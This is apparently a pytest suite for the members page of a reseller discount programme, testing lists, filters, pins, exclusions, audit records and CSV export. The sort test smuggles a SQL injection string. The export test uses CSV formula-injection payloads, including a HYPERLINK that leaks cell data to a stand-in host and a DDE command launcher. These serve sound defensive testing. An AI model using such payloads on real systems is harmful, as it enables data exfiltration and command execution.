"""Members: the list, its filter and order; enrol, exclude, pin; what is recorded of it (R10)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from resellerprogram.programme.basis import Basis, Pin
from resellerprogram.programme.ids import AccountId, DiscountId, Scope
from resellerprogram.programme.ownership import OwnedDiscount
from resellerprogram.programme.standing import Standing
from resellerprogram.programme.text import same
from resellerprogram.programme.tiers import ServiceClass

from tests.operator import Operator
from tests.pages.desk import NOW, Desk

PARTNER_8 = {ServiceClass("vps"): Decimal(19), ServiceClass("dedicated"): Decimal(7), ServiceClass("ssl"): Decimal(3)}


def stand(
    desk: Desk, number: int, name: str, turnover: str = "0", tier: str | None = None, **other: object
) -> AccountId:
    account = AccountId(number)
    held = {"threshold": Decimal(50_000) if tier else None, "percents": PARTNER_8 if tier else {}}
    values = {"basis": Basis.TURNOVER, "decided_at": NOW, **held, **other}
    desk.store.standings.keep(Standing(account, name, tier=tier, turnover=Decimal(turnover), **values))  # type: ignore[arg-type]
    return account


@pytest.fixture
def three(desk: Desk) -> Desk:
    """Three clients: one with a tier, one below it, one who takes no part."""
    stand(
        desk,
        27,
        "Ромашка",
        "52000.5",
        "Partner #8",
        next_tier="Partner #9",
        missing=Decimal("47999.5"),
        change_day=date(2025, 2, 21),
    )
    stand(desk, 28, "Atlas", "120", missing=Decimal(380), next_tier="Starter")
    stand(desk, 29, "Вектор", basis=Basis.NOT_A_MEMBER)
    return desk


def names(desk: Desk, **params: object) -> list[str]:
    return [row["name"] for row in desk.rows("members", **params)]


def test_the_list_tells_where_everybody_stands(three: Desk) -> None:
    page = three.shown("members")
    first = page.find("elem")
    shown = {cell.tag: cell.text or "" for cell in first}
    assert shown == {
        "id": "27",
        "name": "Ромашка",
        "status": "member",
        "turnover": "52000.50 RUB",
        "tier": "Partner #8",
        "percent_vps": "19",
        "percent_dedicated": "7",
        "percent_ssl": "3",
        "missing": "47999.50 RUB",
        "change": "2025-02-21: no tier",
        "decided": "2025-01-20 12:00",
    }
    assert (first.find("status").get("color"), first.find("status").get("orig")) == ("green", "tier")
    totals = {column.get("name"): column.get("total") for column in page.iter("col") if column.get("total")}
    assert totals == {"turnover": "52120.50 RUB"}
    columns = [column.get("name") for column in page.iter("col")]
    assert columns[4:9] == ["tier", "percent_vps", "percent_dedicated", "percent_ssl", "missing"]
    assert page.findtext("messages/msg[@name='percent_ssl']") == "SSL, %", "a short head"
    assert page.findtext("messages/msg[@name='hint_percent_ssl']") == "SSL certificates, %"


def test_it_sorts_by_what_is_meant_not_by_how_it_is_written(three: Desk) -> None:
    stand(three, 30, "Big", "1000000", "Partner #16")
    stand(three, 31, "Small", "9", None)
    assert names(three) == ["Big", "Ромашка", "Atlas", "Small", "Вектор"]
    assert names(three, p_sort="turnover", p_order="asc")[:2] == ["Вектор", "Small"]
    assert names(three, p_sort="name", p_order="asc") == ["Atlas", "Big", "Small", "Вектор", "Ромашка"]
    assert names(three, p_sort="missing", p_order="desc")[:2] == ["Ромашка", "Atlas"], "those without come last"
    stand(three, 32, "Ten", "9", percents={ServiceClass("vps"): Decimal("2.5")})
    by_percent = [row["percent_vps"] for row in three.rows("members", p_sort="percent_vps", p_order="desc")]
    assert by_percent == ["19", "19", "2.5", "", "", ""]
    assert names(three, p_sort="nothing; DROP TABLE standing")[0] == "Big", "the order without a choice"


def test_it_filters_by_part_of_a_name_tier_and_state_and_remembers_it_for_each_employee(three: Desk) -> None:
    assert names(three, filter="on", name="РОМ") == ["Ромашка"]
    assert names(three, filter="on", tier="Partner #8") == ["Ромашка"]
    assert names(three, filter="on", state="not_a_member") == ["Вектор"]
    assert names(three, filter="on", state="no_tier") == ["Atlas"]
    assert len(names(three)) == 3, "a list does not keep what only one request asked for"
    three.ask("members.filter", sok="ok", name="атлас", state="null")
    assert names(three) == []
    three.ask("members.filter", sok="ok", name="", tier="", state="members")
    assert names(three) == ["Ромашка", "Atlas"]
    assert three.form("members.filter")["state"] == "members"
    assert len(names(Desk(three.root, three.store, user="7"))) == 3
    assert len(names(three, filter="off")) == 3


def many(desk: Desk, count: int) -> None:
    with desk.store.connection:
        desk.store.connection.execute("BEGIN")
        for number in range(1, count + 1):
            stand(desk, number, f"Client {number:05}", str(number))


def test_all_members_are_given_for_the_core_to_page(desk: Desk) -> None:
    many(desk, 60)
    for asked in ({}, {"p_num": 2, "p_cnt": 50}):
        assert len(desk.ask("members", **asked).findall("elem")) == 60
    page = desk.shown("members", p_num=2, p_cnt=50)
    assert [row.findtext("id") for row in page.iterfind("elem")] == [str(number) for number in range(10, 0, -1)]
    assert page.find(".//col[@name='turnover']").get("total") == "1830.00 RUB", "over all pages"
    assert desk.said("members") == ""


def test_beyond_the_cap_the_highest_turnovers_stay_and_words_tell_what_is_left_out(desk: Desk) -> None:
    many(desk, 1003)
    given = [row.findtext("id") for row in desk.ask("members").iterfind("elem")]
    assert (len(given), given[0], given[-1]) == (1000, "1003", "4")
    said = desk.said("members")
    assert said.startswith("Shown: 1000 of 1003, not shown: 3. ")
    assert "Filter" in said
    assert "Показано: 1000 из 1003, не показано: 3." in Desk(desk.root, desk.store, language="ru").said("members")


def test_a_filter_that_acts_is_told_above_the_list_and_taken_off_there(three: Desk) -> None:
    everything = {"name": "ром", "tier": "Partner #8", "state": "with_tier", "within": "40", "pinned": "on"}
    three.store.members.pin(AccountId(27), Pin("Partner #8", NOW.date(), "contract"), NOW)
    three.save("members.filter", **everything)
    assert three.said("members") == (
        "Clients shown (1 of 3): name contains “ром”; tier Partner #8; the tier changes within 40 days; has a tier; "
        "pinned to a tier."
    )
    three.language = "ru"
    assert three.said("members") == (
        "Показаны клиенты (1 из 3): имя содержит «ром»; статус Partner #8; статус сменится за 40 дней; есть статус; "
        "статус закреплён."
    )
    assert three.form("members.filter").items() >= {**everything, "trouble": "off"}.items()
    assert three.ask("members").find(".//toolbtn[@name='unfilter']") is not None
    assert three.ask("members.unfilter").findtext("ok") == "func=resellerprogram.members"
    assert three.said("members") == ""
    assert three.ask("members").find(".//toolbtn[@name='unfilter']") is None, "there is nothing to take off"
    assert len(names(three)) == 3


def test_another_employees_filter_stays(three: Desk) -> None:
    other = Desk(three.root, three.store, user="7")
    for each in (three, other):
        each.save("members.filter", name="ром")
    three.ask("members.unfilter")
    assert (len(names(three)), names(other)) == (3, ["Ромашка"])


def test_it_filters_by_the_days_within_which_the_tier_changes(three: Desk) -> None:
    stand(three, 30, "Soon", "600", "Starter", change_day=NOW.date() + timedelta(days=7))
    assert names(three, filter="on", within="7") == ["Soon"]
    assert names(three, filter="on", within="6") == []
    assert names(three, filter="on", within="32") == ["Ромашка", "Soon"]
    for typed in ("0", "a week", "-1"):
        assert three.refused("members.filter", within=typed)[1] == "within"


def test_with_trouble_is_who_fails_waits_or_was_changed_by_hand(three: Desk) -> None:
    store = three.store
    stand(three, 30, "Fails")
    stand(three, 31, "Waits")
    store.queue.failed(store.queue.put(AccountId(30), "x", NOW), same("refused"), NOW)
    store.queue.put(AccountId(31), "x", NOW)
    stand(three, 33, "By hand", put_right_at=NOW)
    stand(three, 34, "By hand long ago", put_right_at=NOW - timedelta(days=31))
    assert set(names(three, filter="on", trouble="on")) == {"Fails", "Waits", "By hand"}
    icons = {row["name"]: {name for name, value in row.items() if value == "on"} for row in three.rows("members")}
    assert (icons["Waits"], icons["Fails"]) == ({"is_waiting"}, {"is_failed"})
    assert names(three, filter="on", trouble="off") == names(three, filter="off")


def test_with_trouble_is_also_whose_discount_in_effect_is_not_what_is_due(office: Desk, operator: Operator) -> None:
    operator.sandbox.world.add_payment(1, 100_000, date(2025, 1, 20))
    operator.sandbox.fault("refuse", "account.discount.edit")
    operator.apply()
    for row in office.store.queue.all():
        office.store.queue.drop(row.id)
    operator.sandbox.world.add_payment(operator.sandbox.world.add_account("Atlas"), 600, date(2025, 1, 20))
    operator.apply(account=2)
    assert names(office, filter="on", trouble="on") == names(office, filter="on", state="differs") == ["Ромашка"]
    assert office.rows("members", filter="on", trouble="on")[0]["percent_vps"] == "19 %; 23 % follows"


def test_icons_tell_the_states(three: Desk) -> None:
    store, account = three.store, AccountId(27)
    store.members.pin(account, Pin("Partner #8", NOW.date(), "contract"), NOW)
    store.members.exclude(AccountId(28), "left", NOW)
    stand(three, 29, "Вектор", put_right_at=NOW)
    store.set_aside.keep(account, 5, {"name": "Agreed"}, {}, "", NOW)  # type: ignore[arg-type]
    store.queue.failed(store.queue.put(account, "x", NOW), same("refused"), NOW)
    icons = {row["name"]: {name for name, value in row.items() if value == "on"} for row in three.rows("members")}
    assert icons == {
        "Ромашка": {"is_pinned", "is_set_aside", "is_failed"},
        "Atlas": {"is_excluded"},
        "Вектор": {"is_put_right"},
    }
    for state, found in (("pinned", "Ромашка"), ("excluded", "Atlas"), ("set_aside", "Ромашка"), ("failed", "Ромашка")):
        assert names(three, filter="on", state=state) == [found]
    assert names(three, filter="on", state="put_right") == ["Вектор"]
    three.now = NOW + timedelta(days=31)
    assert names(three, filter="on", state="put_right") == []
    assert names(three, filter="on", state="pinned") == [], "the pin is over"


def test_the_export_is_the_filtered_list_with_exact_figures(three: Desk) -> None:
    three.ask("members.filter", sok="ok", name="", tier="", state="with_tier")
    assert three.form("members.export")["csv"] == (
        "id,client,status,tier,turnover,currency,missing,next_tier,vps,dedicated,ssl,changes_on,changes_to,decided_at,"
        "vps_follows,dedicated_follows,ssl_follows,opening,opening_until\n"
        "27,Ромашка,tier,Partner #8,52000.5,RUB,47999.5,Partner #9,19,7,3,2025-02-21,,2025-01-20 12:00:00,,,,,\n"
    )


# --- what an administrator says of a client ---


def test_a_client_is_excluded_with_a_reason_and_it_is_on_record(three: Desk) -> None:
    three.save("members.edit", elid=27, standing="excluded", reason="contract ended")
    assert three.store.members.of(AccountId(27)).standing == "excluded"
    assert three.changes()[0][:3] == ("1", "192.0.2.7", "member")
    assert three.rows("changes")[0]["change"] == "participation: as in the settings → excluded: contract ended"
    (row,) = three.store.queue.all()
    assert (row.account, row.cause, row.who) == (27, "member", "1")
    three.save("members.edit", elid=27, standing="rule")
    assert three.store.members.of(AccountId(27)).standing is None


def test_the_form_tells_who_is_a_member_as_the_settings_are(three: Desk) -> None:
    for rule, told in (("all", "every client"), ("group:4", "clients in a group"), ("enrolled", "included by hand")):
        three.store.settings.set("members", rule)
        shown = three.ask("members.edit", elid=27).findtext("slist[@name='standing']/val[@key='rule']")
        assert shown == f"as in the settings ({told})"


def test_the_record_names_the_employee_where_a_run_has_read_the_names(three: Desk) -> None:
    three.store.notes.write("staff", {"1": "anna"})
    three.save("members.edit", elid=27, standing="enrolled")
    assert three.changes()[0][0] == "anna"


def test_a_tier_is_pinned_until_a_day_with_a_reason_and_let_go(three: Desk) -> None:
    three.save(
        "members.edit", elid=28, pinned="on", pin_tier="Partner #3", pin_until="2025-02-01", pin_reason="contract 12"
    )
    assert three.store.members.of(AccountId(28)).pin == Pin("Partner #3", date(2025, 2, 1), "contract 12")
    form = three.form("members.edit", elid=28)
    assert (form["pin_tier"], form["pin_kind"]) == ("Partner #3", "at_least")
    three.save("members.edit", elid=28, pin_kind="exactly")
    assert three.store.members.of(AccountId(28)).pin == Pin("Partner #3", date(2025, 2, 1), "contract 12", True)
    assert three.form("members.edit", elid=28)["pin_kind"] == "exactly"
    three.save("members.edit", elid=28, pinned="off")
    assert three.store.members.of(AccountId(28)).pin is None


@pytest.mark.parametrize(
    ("typed", "field", "says"),
    [
        ({"standing": "excluded", "reason": " "}, "reason", "Enter a reason; it goes into the change log."),
        ({"standing": "perhaps"}, "standing", "Choose one of the options."),
        (
            {"pinned": "on", "pin_tier": "Gold", "pin_until": "2025-02-01", "pin_reason": "x"},
            "pin_tier",
            "no tier “Gold”",
        ),
        (
            {
                "pinned": "on",
                "pin_tier": "Starter",
                "pin_kind": "most",
                "pin_until": "2025-02-01",
                "pin_reason": "x",
            },
            "pin_kind",
            "Choose one of the options.",
        ),
        (
            {"pinned": "on", "pin_tier": "Starter", "pin_until": "soon", "pin_reason": "x"},
            "pin_until",
            "Enter a date such as",
        ),
        ({"pinned": "on", "pin_tier": "Starter", "pin_until": "2025-01-19", "pin_reason": "x"}, "pin_until", "over"),
        (
            {"pinned": "on", "pin_tier": "Starter", "pin_until": "2025-02-01", "pin_reason": ""},
            "pin_reason",
            "Enter a reason; it goes into the change log.",
        ),
        (
            {"standing": "excluded", "reason": "x", "pinned": "on", "pin_tier": "Starter", "pin_until": "1.2.2025"},
            "pin_until",
            "Enter a date such as",
        ),
    ],
)
def test_what_can_not_be_is_refused_at_its_field_and_changes_nothing(
    three: Desk, typed: dict[str, str], field: str, says: str
) -> None:
    message, marked = three.refused("members.edit", elid=27, **typed)
    assert (marked, says in message) == (field, True)
    assert three.store.members.all() == []
    assert three.changes() == []


def test_of_two_administrators_the_second_is_told(three: Desk) -> None:
    opened = three.form("members.edit", elid=27)
    other = Desk(three.root, three.store, user="boris")
    other.save("members.edit", elid=27, standing="excluded", reason="fraud")
    message, _ = three.error(three.ask("members.edit", **{**opened, "standing": "enrolled"}, sok="ok"))
    assert "Changed meanwhile by boris, 20 Jan 2025, 12:00." in message
    assert three.store.members.of(AccountId(27)).reason == "fraud"


def test_a_tier_that_has_vanished_is_shown_not_dropped(three: Desk) -> None:
    three.store.members.pin(AccountId(27), Pin("Gold", date(2025, 3, 1), "old"), NOW)
    page = three.ask("members.edit", elid=27)
    assert page.findtext("slist[@name='pin_tier']/val[@key='Gold']") == "Gold (?)"
    three.save("members.edit", elid=27, standing="enrolled")
    assert three.store.members.of(AccountId(27)).pin == Pin("Gold", date(2025, 3, 1), "old")


def test_several_clients_at_once(three: Desk) -> None:
    assert three.ask("members.enrol", elid="27, 29", sok="ok").find("ok") is not None
    three.level = 30
    owned = OwnedDiscount(DiscountId(7), AccountId(28), Scope("it_2"), None, Decimal(19))
    three.store.owned.keep(owned)
    form = three.form("members.exclude", elid="27, 28")
    assert (form["whom"], form["loss"]) == (
        "2: 27 Ромашка, 28 Atlas",
        "1 client loses its program discounts (1).\nClient 28 Atlas: it_2 19 % → none.",
    )
    assert "confirm" not in three.form("members.exclude", elid="27"), "one client needs no yes"
    assert three.refused("members.exclude", elid="27, 28", reason="left") == (
        "1 client loses its program discounts (1). Confirm it.",
        "confirm",
    )
    seen = {**form, "elid": "27, 28", "reason": "left", "confirm": "on"}
    three.store.owned.keep(replace(owned, id=DiscountId(8)))
    assert three.error(three.ask("members.exclude", **seen, sok="ok"))[0].startswith("More would be lost now")
    three.save("members.exclude", elid="27, 28", reason="left", confirm="on")
    standings = {note.account: note.standing for note in three.store.members.all()}
    assert standings == {27: "excluded", 28: "excluded", 29: "enrolled"}
    assert three.refused("members.exclude", elid="29", reason="") == (
        "Enter a reason; it goes into the change log.",
        "reason",
    )
    message, _ = three.error(three.ask("members.enrol", elid="27, x", sok="ok"))
    assert message == "There is no client “x”: enter a client id."


def test_recalculating_the_selected_ones_is_a_task_of_its_own_in_their_name(three: Desk) -> None:
    three.ask("members.recalculate", elid="27, 28", sok="ok")
    task = three.store.tasks.next()
    assert task is not None
    assert (task.kind, task.arguments["accounts"], task.author.name) == ("apply", [27, 28], "1")
    assert three.changes()[0][2] == "recalculate"


def test_the_page_speaks_russian(three: Desk) -> None:
    three.language = "ru"
    assert three.rows("members")[0]["status"] == "участвует"
    assert three.refused("members.edit", elid=27, standing="excluded", reason="") == (
        "Укажите причину: она сохранится в журнале.",
        "reason",
    )


# --- on a panel that runs ---


def test_a_client_whom_no_run_has_seen_is_asked_for_by_the_panels_own_form(office: Desk, operator: Operator) -> None:
    new = operator.sandbox.world.add_account("Новый")
    operator.sandbox.reset_calls()
    assert office.form("members.edit", elid=new)["name"] == f"{new} Новый"
    assert len(operator.sandbox.calls()) <= 2
    office.save("members.edit", elid=new, standing="enrolled")
    assert "Новый" in [row["name"] for row in office.rows("members")]
    assert office.error(office.ask("members.edit", elid=99)) == ("The panel has no client 99.", "")


def chosen(office: Desk, **choice: str) -> dict[str, str]:
    """What the form of client 1 has and sends when something was chosen in it."""
    opened = {**office.form("members.edit", elid=1), **choice, "sv_field": "standing"}
    return {**opened, **office.form("members.edit", **opened)}


def fields(office: Desk, **choice: str) -> set[str]:
    """Which the form has then."""
    page = office.ask("members.edit", **chosen(office, **choice))
    return {str(field.get("name")) for field in page.iter("field")}


def agree(office: Desk, **choice: str) -> None:
    """Choose in the form of client 1, and say yes to what it tells."""
    sent = {**chosen(office, **choice), "confirm": "on", "sok": "ok"}
    assert office.ask("members.edit", **sent).find("ok") is not None


def pinned(tier: str, kind: str = "at_least") -> dict[str, str]:
    return {
        "pinned": "on",
        "pin_tier": tier,
        "pin_kind": kind,
        "pin_until": "2025-02-20",
        "pin_reason": "contract 12",
    }


ALL_THREE = "VPS 19 % → none; dedicated servers 7 % → none; SSL certificates 3 % → none"
EXCLUDED_NOW = {"standing": "excluded", "reason": "left"}


@pytest.mark.parametrize(
    ("before", "choice", "told", "what", "left"),
    [
        ({}, EXCLUDED_NOW, "1 client loses its program discounts (3).", ALL_THREE, {}),
        (
            {},
            pinned("Starter", "exactly"),
            "Program discounts get smaller for 1 client (3).",
            "VPS 19 → 3 %; dedicated servers 7 → 1 %; SSL certificates 3 → 1 %",
            {"vds": 3, "dedic": 1, "certificate": 1},
        ),
        ({"standing": "enrolled"}, {"standing": "rule"}, "1 client loses its program discounts (3).", ALL_THREE, {}),
        (
            pinned("Partner #10"),
            {"pinned": "off"},
            "Program discounts get smaller for 1 client (3).",
            "VPS 23 → 19 %; dedicated servers 9 → 7 %; SSL certificates 5 → 3 %",
            {"vds": 19, "dedic": 7, "certificate": 3},
        ),
    ],
    ids=["excluded", "pinned below", "as in the settings", "unpinned"],
)
def test_what_takes_discounts_from_a_client_is_told_and_asks_for_a_yes_and_one_reason(
    office: Desk,
    operator: Operator,
    before: dict[str, str],
    choice: dict[str, str],
    told: str,
    what: str,
    left: dict[str, int],
) -> None:
    """Spec, section 5; what is told is what the next run takes. An exclusion and a pin have their reason already."""
    if before:
        agree(office, **before)
    if "standing" in before:
        office.store.settings.set("members", "enrolled")
    operator.apply(allow_drop=True)
    said = office.store.members.of(AccountId(1))
    has_reason = "reason" in choice or "pin_reason" in choice
    assert not {"loss", "loss_reason", "confirm"} & office.form("members.edit", elid=1).keys()
    sent = {**chosen(office, **choice), "sok": "ok"}
    assert sent.items() >= choice.items(), "what was typed stays"
    assert sent["loss"].splitlines() == [told, f"Client 1 Ромашка: {what}."]
    message, field = office.error(office.ask("members.edit", **sent))
    assert (field, message.endswith("If that is meant, confirm it.")) == ("confirm", True)
    sent["confirm"] = "on"
    if has_reason:
        assert "loss_reason" not in fields(office, **choice)
    else:
        assert office.error(office.ask("members.edit", **sent)) == (
            "Enter a reason; it goes into the change log.",
            "loss_reason",
        )
        sent["loss_reason"] = "as agreed"
    assert office.store.members.of(AccountId(1)) == said, "nothing is done before the yes"
    assert office.ask("members.edit", **sent).find("ok") is not None
    operator.apply(allow_drop=True)
    assert operator.percents(1) == left
    kept = [row["change"] for row in office.rows("changes") if row["whom"] == "1 Ромашка"]
    assert kept[0 if has_reason else 1].endswith(choice.get("reason") or choice.get("pin_reason") or " / as agreed")


def test_a_pin_tells_what_it_takes_before_its_reason_is_typed(office: Desk) -> None:
    """The reason is the form's last field: what is chosen above it is told by then."""
    sent = chosen(office, **{**pinned("Starter", "exactly"), "pin_reason": ""})
    assert "VPS 19 → 3 %" in sent["loss"]
    sent.update(pin_reason="contract 12", confirm="on", sok="ok")
    assert office.ask("members.edit", **sent).find("ok") is not None


def test_another_choice_than_the_one_that_was_told_is_told_and_asked_again(office: Desk) -> None:
    sent = {**chosen(office, **pinned("Partner #7", "exactly")), "confirm": "on", "sok": "ok"}
    message, field = office.error(office.ask("members.edit", **{**sent, **pinned("Starter", "exactly")}))
    assert (field, message.startswith("This is not what the form has told. Program discounts get smaller")) == (
        "confirm",
        True,
    )
    assert "VPS 19 → 3 %" in message
    assert office.store.members.of(AccountId(1)).pin is None


@pytest.mark.parametrize(
    ("standing", "choice"),
    [
        ("", {"standing": "enrolled", "reason": "partner"}),
        ("enrolled", {"reason": "another reason"}),
        ("excluded", {"standing": "rule"}),
    ],
)
def test_what_only_gives_is_said_at_once_and_without_the_panel(
    office: Desk, operator: Operator, standing: str, choice: dict[str, str]
) -> None:
    """Also where the discounts of who was excluded are not taken off yet."""
    if standing:
        agree(office, standing=standing, reason="x")
    operator.sandbox.reset_calls()
    assert "confirm" not in fields(office, **choice)
    office.save("members.edit", elid=1, **choice)
    assert operator.sandbox.calls() == []


def test_what_can_not_be_tells_no_loss_until_it_can(office: Desk) -> None:
    shown = chosen(office, **{**pinned("Starter", "exactly"), "pin_until": ""})
    assert (shown["pin_kind"], "loss" in shown) == ("exactly", False)


def test_an_exclusion_takes_the_discounts_off_with_the_workers_next_round(office: Desk, operator: Operator) -> None:
    """R10"""
    agree(office, standing="excluded", reason="left")
    operator.work()
    assert operator.percents(1) == {}
    record = office.store.decisions.last(AccountId(1))
    assert record is not None
    assert (record.cause, record.who) == ("member", "admin")


def test_the_list_asks_the_panel_nothing(office: Desk, operator: Operator) -> None:
    operator.sandbox.reset_calls()
    for page in (
        "members",
        "members.filter",
        "members.export",
        "preview",
        "tiers",
        "tables",
        "health",
        "queue",
        "changes",
    ):
        office.ask(page)
    office.ask("members.edit", elid=1)
    office.ask("history", elid=1)
    assert operator.sandbox.calls() == []


def test_the_moment_shown_is_the_last_recalculation(office: Desk, operator: Operator) -> None:
    operator.apply(date(2025, 1, 21))
    assert office.rows("members")[0]["decided"] == str(datetime(2025, 1, 21, 12))[:16]


def test_no_cell_of_the_export_begins_a_formula(desk: Desk) -> None:
    names = ('=HYPERLINK("http://x.example/?"&A1,"invoice")', "+7 999 123", "@SUM(A1)", "-5", "x;=1+1")
    for number, name in enumerate(names, 1):
        desk.store.standings.keep(Standing(AccountId(number), name, Basis.TURNOVER, "=cmd|' /C calc'!A0"))
    rows = [*csv.reader(io.StringIO(desk.ask("members.export").findtext("csv")))][1:]
    assert sorted(row[1] for row in rows) == sorted([*(f"'{name}" for name in names[:4]), "x;'=1+1"])
    assert {row[3] for row in rows} == {"'=cmd|' /C calc'!A0"}


@pytest.mark.parametrize(
    ("typed", "field", "says"),
    [
        ({"pin_until": "9999-12-31"}, "pin_until", "out of range"),
        ({"pin_until": "0001-01-15"}, "pin_until", "out of range"),
        ({"pin_reason": "x" * 1001}, "pin_reason", "Too long"),
        ({"reason": "x" * 1001, "standing": "excluded"}, "reason", "Too long"),
    ],
)
def test_a_pin_or_reason_out_of_bounds_is_refused_at_its_field(
    desk: Desk, typed: dict[str, str], field: str, says: str
) -> None:
    desk.store.standings.keep(Standing(AccountId(27), "Atlas"))
    pin = {"pinned": "on", "pin_tier": "Starter", "pin_until": "2025-03-01", "pin_reason": "contract"}
    message, marked = desk.refused("members.edit", elid=27, **{**pin, **typed})
    assert (marked, says in message) == (field, True)
    assert desk.store.members.all() == []
